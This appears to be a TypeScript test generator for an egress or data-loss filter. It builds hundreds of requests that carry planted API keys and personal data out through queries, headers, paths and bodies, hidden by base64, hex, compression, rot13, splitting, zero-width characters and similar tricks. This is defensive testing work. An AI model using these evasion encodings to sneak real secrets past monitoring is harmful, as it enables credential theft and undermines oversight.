import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync, zstdCompressSync } from 'node:zlib'
import type { EgressRequest } from '@castellan/contracts'
import type { Draw } from './draw.ts'
import { credentials, type Planted, personal } from './secrets.ts'

/** A request that carries something out, and what it is. */
export interface Leak {
  readonly what: string
  readonly request: Omit<EgressRequest, 'purpose'>
}

type Encode = readonly [name: string, encode: (text: string) => string]

const b64 = (bytes: Buffer | string): string => Buffer.from(bytes).toString('base64')
const percentAll = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
const base32 = (text: string): string => {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, '0')).join('')
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(five.padEnd(5, '0'), 2)])
    .join('')
}

/** Ways to write a text so that simple readers do not see it. */
const encodings: readonly Encode[] = [
  ['plain', (text) => text],
  ['base64', b64],
  ['base64url', (text) => Buffer.from(text).toString('base64url')],
  ['base64 of words around it', (text) => b64(`note to self, keep safe: ${text} -- end of note`)],
  ['base64 twice', (text) => b64(b64(text))],
  [
    'base64 in lines',
    (text) => b64(`some words before, to make it long enough for lines: ${text}`).replace(/(.{60})/g, '$1\n'),
  ],
  ['hex', (text) => Buffer.from(text).toString('hex')],
  ['hex with colons', (text) => (Buffer.from(text).toString('hex').match(/../g) ?? []).join(':')],
  ['base32', base32],
  ['percent', percentAll],
  ['percent twice', (text) => percentAll(text).replaceAll('%', '%25')],
  ['json', (text) => JSON.stringify({ note: { deep: [text] } })],
  ['json in json', (text) => JSON.stringify({ body: JSON.stringify({ text }) })],
  [
    'unicode escapes',
    (text) => [...text].map((char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  ],
  ['html references', (text) => [...text].map((char) => `&#${char.charCodeAt(0)};`).join('')],
  ['gzip in base64', (text) => b64(gzipSync(text))],
  ['deflate in base64', (text) => b64(deflateSync(`${text}\n`))],
  ['bare deflate in base64', (text) => b64(deflateRawSync(`log: ${text}\n`))],
  ['brotli in base64', (text) => b64(brotliCompressSync(`log line one\nlog line two: ${text}\n`))],
  ['zstd in base64url', (text) => zstdCompressSync(text).toString('base64url')],
  ['gzip twice in base64 in json', (text) => JSON.stringify({ blob: b64(gzipSync(gzipSync(text))) })],
]

/** Encodings of the whole body, which are bytes. */
const bodies: readonly (readonly [string, string, (text: string) => Buffer])[] = [
  ['gzip', 'application/octet-stream', (text) => gzipSync(`${text}\n`)],
  ['deflate', 'application/octet-stream', (text) => deflateSync(`${text}\n`)],
  [
    'brotli',
    'application/octet-stream',
    (text) => brotliCompressSync(`${text}\n and some more words to make it longer\n`),
  ],
  ['utf-16', 'text/plain', (text) => Buffer.from(text, 'utf16le')],
  [
    'multipart',
    'multipart/form-data; boundary=xyz',
    (text) =>
      Buffer.from(
        `--xyz\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n\r\n${text}\r\n--xyz--\r\n`,
      ),
  ],
  [
    'multipart with gzip',
    'multipart/form-data; boundary=xyz',
    (text) =>
      Buffer.from(
        `--xyz\r\nContent-Disposition: form-data; name="f"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(gzipSync(text))}\r\n--xyz--\r\n`,
      ),
  ],
  [
    'form',
    'application/x-www-form-urlencoded',
    (text) => Buffer.from(new URLSearchParams({ a: '1', comment: text }).toString()),
  ],
  [
    'chat',
    'application/json',
    (text) =>
      Buffer.from(
        JSON.stringify({
          model: 'm',
          messages: [{ role: 'user', content: `why does this fail?\n\n${text}\n` }],
          stream: true,
        }),
      ),
  ],
  [
    'ndjson',
    'application/x-ndjson',
    (text) => Buffer.from(`${JSON.stringify({ level: 'info' })}\n${JSON.stringify({ msg: text })}\n`),
  ],
  ['yaml', 'text/yaml', (text) => Buffer.from(`config:\n  value: ${JSON.stringify(text)}\n`)],
]

/** Leaks of everything everywhere: at least two hundred, the same for the same seed. */
export function leaks(origin: string, draw: Draw): Leak[] {
  const planted = [...credentials(draw), ...personal()]
  return [
    ...planted.flatMap((each, at) => carried(origin, each, at)),
    ...bodies.flatMap(([name, type, encode]) =>
      [0, 1, 2, 3].map((shift) => {
        const { what, text } = planted[(shift * 17 + name.length * 3) % planted.length] as Planted
        return inBody(origin, `${what}, ${name} body`, type, encode(text))
      }),
    ),
    ...divided(origin, draw),
  ]
}

/** In the query, a header, the path and the body, each in another encoding. */
function carried(origin: string, { what, text }: Planted, at: number): Leak[] {
  const pick = (shift: number): Encode => encodings[(at * 5 + shift * 7) % encodings.length] as Encode
  const [inQuery, inHeader, inJson] = [pick(0), pick(1), pick(2)]
  const [, pathEncode] = encodings[at % 2 === 0 ? 2 : 6] as Encode
  const visible = (value: string): string => value.replace(/[^\x20-\x7e]+/g, ' ').slice(0, 16_000)
  return [
    {
      what: `${what}, ${inQuery[0]} in the query`,
      request: { url: `${origin}/collect?id=7&d=${encodeURIComponent(inQuery[1](text))}` },
    },
    { what: `${what}, plain in the query`, request: { url: `${origin}/c?${new URLSearchParams({ q: text })}` } },
    {
      what: `${what}, ${inHeader[0]} in a header`,
      request: { url: `${origin}/`, headers: { 'user-agent': `agent/1 (${visible(inHeader[1](text))})` } },
    },
    inBody(
      origin,
      `${what}, ${inJson[0]} in the body`,
      'application/json',
      Buffer.from(JSON.stringify({ data: inJson[1](text) })),
    ),
    { what: `${what}, in the path`, request: { url: `${origin}/p/${pathEncode(text)}` } },
  ]
}

/** One credential in several places, turned round or shifted. */
function divided(origin: string, draw: Draw): Leak[] {
  const keys = credentials(draw).filter(({ what }) =>
    ['anthropic', 'github', 'aws id', 'google', 'npm', 'castellan'].includes(what),
  )
  const rot13 = (text: string): string =>
    text.replace(/[a-z]/gi, (letter) => {
      const base = letter <= 'Z' ? 65 : 97
      return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
    })
  return keys.flatMap(({ what, text }) => {
    const half = Math.floor(text.length / 2)
    const [first, second] = [text.slice(0, half), text.slice(half)]
    const json = (value: unknown): Buffer => Buffer.from(JSON.stringify(value))
    return [
      { what: `${what}, in two fields of the query`, request: { url: `${origin}/?a=${first}&b=${second}` } },
      inBody(origin, `${what}, in a list of pieces`, 'application/json', json({ parts: text.match(/.{1,6}/g) })),
      inBody(origin, `${what}, added up in code`, 'text/plain', Buffer.from(`const k = '${first}' + '${second}'`)),
      inBody(origin, `${what}, backwards`, 'text/plain', Buffer.from([...text].reverse().join(''))),
      inBody(origin, `${what}, shifted by 13`, 'text/plain', Buffer.from(rot13(text))),
      inBody(origin, `${what}, as numbers`, 'application/json', json({ bytes: [...Buffer.from(text)] })),
      inBody(origin, `${what}, with characters that show nothing`, 'text/plain', Buffer.from([...text].join('\u200b'))),
    ]
  })
}

function inBody(origin: string, what: string, type: string, body: Buffer): Leak {
  return {
    what,
    request: { url: `${origin}/submit`, method: 'POST', headers: { 'content-type': type }, body: b64(body) },
  }
}
